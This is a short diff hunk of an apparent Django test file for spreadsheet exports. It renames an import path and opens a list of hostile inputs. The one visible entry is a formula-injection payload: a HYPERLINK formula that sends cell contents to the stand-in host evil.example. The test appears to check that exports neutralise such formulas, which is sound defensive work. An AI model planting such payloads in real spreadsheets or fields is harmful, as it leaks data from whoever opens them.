@@ -13,7 +13,7 @@ from django.test import Client
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from kkr_portal.exports import spreadsheet_safe, table_response
+from core.exports import spreadsheet_safe, table_response
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
